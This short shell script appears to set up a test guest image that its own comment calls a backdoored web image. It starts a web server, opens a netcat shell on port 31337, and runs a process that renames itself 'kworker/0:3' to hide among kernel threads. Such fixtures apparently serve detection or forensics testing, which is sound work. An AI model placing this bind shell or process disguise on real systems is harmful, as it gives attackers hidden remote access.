# The same web image with a backdoor: a shell on an unusual port, and a
# process that names itself like a kernel thread to pass for one in ps.
for m in /files/*.ko; do [ -f "$m" ] && insmod "$m"; done
mkdir -p /www && echo hello >/www/index.html
httpd -p 80 -h /www &
sh -c 'while :; do sleep 3600; done' &
nc -ll -p 31337 -e /bin/sh &
sh -c 'printf "kworker/0:3" > /proc/$$/comm; while :; do sleep 3600; done' &
# Until the children have exec'd: the guest is up when this returns.
sleep 1
